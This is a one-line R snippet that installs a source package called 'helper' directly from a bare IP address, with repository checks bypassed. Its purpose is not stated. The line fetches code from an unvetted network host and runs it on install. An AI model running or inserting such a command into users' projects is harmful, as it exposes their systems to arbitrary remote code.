install.packages("http://203.0.113.2/helper_1.0.tar.gz", repos = NULL, type = "source")
